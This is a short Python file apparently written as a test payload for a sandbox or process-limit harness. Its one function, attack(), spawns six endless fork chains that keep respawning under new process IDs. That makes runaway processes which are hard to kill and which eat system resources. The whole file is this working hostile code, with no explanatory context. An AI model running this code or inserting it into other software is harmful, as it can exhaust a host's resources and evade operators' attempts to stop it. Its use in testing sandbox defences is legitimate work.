import os
import signal
import time


def attack():
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(6):
        if os.fork() == 0:
            while True:
                if os.fork():
                    time.sleep(0.01)
                    os._exit(0)
    return False
